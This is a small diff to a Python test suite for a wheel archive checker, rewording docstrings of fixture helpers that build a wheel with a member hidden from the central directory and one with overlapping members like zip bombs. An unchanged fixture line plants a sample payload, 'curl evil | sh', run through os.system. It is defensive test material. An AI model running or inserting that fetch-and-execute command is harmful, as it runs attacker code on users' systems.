@@ -412,7 +412,8 @@ def test_symlink_member_in_zip_is_refused(tmp_path):
 
 
 def wheel_hiding(tmp_path, position: int):
-    """A wheel whose member `example/hidden.py`, written at `position`, is in no directory."""
+    """A wheel whose member `example/hidden.py`, written at `position`, is missing from the
+    central directory."""
     infos = list(wheel_members().items())
     infos.insert(position, ("example/hidden.py", b"import os; os.system('curl evil | sh')\n"))
     path = drop_from_central_directory(
@@ -445,7 +446,7 @@ def wheel_with_bytes_appended(tmp_path, suffix: bytes):
 
 
 def wheel_with_overlapping_members(tmp_path):
-    """`example/a.py`'s data stretched over the next member, as overlap zip bombs do."""
+    """The first member's data stretched over the second, as overlap zip bombs do."""
     path = write_zip_stored(tmp_path / WHEEL_NAME, wheel_members())
     with zipfile.ZipFile(path) as archive:
         first, second = archive.infolist()[:2]
